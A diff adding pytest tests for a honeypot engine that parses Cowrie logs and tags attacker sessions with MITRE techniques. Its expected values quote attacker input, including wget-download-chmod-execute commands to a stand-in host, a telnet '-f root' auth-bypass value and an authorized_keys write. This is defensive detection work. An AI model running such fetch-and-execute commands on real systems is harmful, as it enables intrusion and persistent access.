@@ -1,0 +1,111 @@
+"""Small logs that once lost evidence: each gives the rows and tags that its lines deserve."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+import pytest_asyncio
+
+from decnet.config import load_settings
+from decnet.engine import Engine
+
+CASES = Path(__file__).parent.parent / "fixtures" / "cases"
+IDLE_S = 0.4
+Row = dict[str, Any]
+
+
+class Known:
+    """What an engine knows after reading some logs."""
+
+    def __init__(self, engine: Engine, tags: list[Row]) -> None:
+        self.repo = engine.repo
+        self.engine = engine
+        self.all_tags = tags
+
+    def techniques(self, ip: str) -> set[str]:
+        """Techniques and sub-techniques of one address."""
+        mine = [tag for tag in self.all_tags if tag["attacker_ip"] == ip]
+        return {tag["sub_technique_id"] or tag["technique_id"] for tag in mine}
+
+    async def session(self, native: str) -> Row:
+        """The one session with the honeypot's own id, as a payload."""
+        found = await self.repo.find(native)
+        (ident,) = {row["session_id"] for row in found if row["kind"] == "session"}
+        payload = await self.repo.session_payload(ident)
+        assert payload is not None
+        return payload
+
+    async def kinds(self, text: str) -> set[str]:
+        """Where a text is found."""
+        return {row["kind"] for row in await self.repo.find(text)}
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def known(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Known]:
+    """All logs, each a sensor of its own, in one engine."""
+    logs = sorted(CASES.glob("*.json"))
+    settings = load_settings(
+        data_dir=tmp_path_factory.mktemp("cases"),
+        bus={"type": "memory"},
+        workers=("sensors", "recorder", "ttp"),
+        ttp_rule_store_type="filesystem",
+        sensors=[{"kind": "cowrie", "path": str(path)} for path in logs],
+    )
+    engine = Engine(settings)
+    await engine.start()
+    try:
+        assert await engine.until_idle(IDLE_S) is None
+        yield Known(engine, await engine.repo.list_tags(limit=0))
+    finally:
+        await engine.stop(5.0)
+
+
+pytestmark = pytest.mark.asyncio(loop_scope="module")
+
+
+async def test_06_a_telnet_exploit_is_a_log_in_a_command_and_a_named_weakness(known: Known) -> None:
+    session = await known.session("ca2600000001")
+    assert session["auth"] == {"fail_count": 0, "success": True, "usernames": ["root"]}
+    assert [c["command_text"] for c in session["commands"]] == [
+        "id; wget http://203.0.113.9/x.sh",
+        "uname -a",
+    ]
+    assert [(e["cve"], e["value"], e["success"]) for e in session["exploits"]] == [
+        ("CVE-2026-24061", "-f root", False), ("CVE-2026-24061", "-f root", True),
+    ]  # fmt: skip
+    assert known.techniques("192.0.2.61") >= {"T1190", "T1033", "T1105", "T1082"}
+    assert await known.kinds("CVE-2026-24061") == {"exploit"}
+
+
+async def test_07_an_upload_alone_is_a_tool_brought_in(known: Known) -> None:
+    session = await known.session("0b0000000001")
+    assert [(u["filename"], u["sha256"]) for u in session["uploads"]] == [("sshd", "ab" * 32)]
+    assert known.techniques("192.0.2.94") >= {"T1105"}
+
+
+async def test_08_a_tunnel_is_kept_with_what_went_through_it(known: Known) -> None:
+    session = await known.session("ca2600000002")
+    assert [{k: v for k, v in f.items() if k != "orig_port"} for f in session["forwards"]] == [
+        {"host": "203.0.113.50", "port": 443, "orig_ip": "127.0.0.1", "ja4": "t13i190800_9dc949149365_97f8aa674fd9"},
+        {"host": "203.0.113.50", "port": 80, "ja4h": "ge11cn060000_4e59edc1297a_4da5efaf0cbd_000000000000"},
+        {"host": "203.0.113.50", "port": 25, "data": "b'MAIL FROM:<a@example.net>\\r\\n'"},
+    ]  # fmt: skip
+    assert known.techniques("192.0.2.62") >= {"T1090", "T1071.001"}
+    assert await known.kinds("MAIL FROM:<a@example.net>") == {"forward"}
+    assert "hash" in await known.kinds("t13i190800_9dc949149365_97f8aa674fd9")
+
+
+async def test_09_redirects_and_input_of_programs_are_facts(known: Known) -> None:
+    session = await known.session("ca2600000003")
+    assert [(i["realm"], i["text"]) for i in session["inputs"]] == [
+        ("cat", "#!/bin/sh"), ("cat", "wget http://203.0.113.9/b -O /tmp/b; chmod +x /tmp/b; /tmp/b"),
+    ]  # fmt: skip
+    files = [(d["url"], d.get("destfile"), d.get("failed", False)) for d in session["downloads"]]
+    assert files == [
+        ("", "/root/.ssh/authorized_keys", False), ("http://203.0.113.9/nope.sh", None, True), ("http://203.0.113.9/yes.sh", None, False),
+    ]  # fmt: skip
+    assert await known.kinds("/root/.ssh/authorized_keys") == {"file"}
+    assert known.techniques("192.0.2.63") >= {"T1098.004", "T1105", "T1222.002", "T1059.004"}
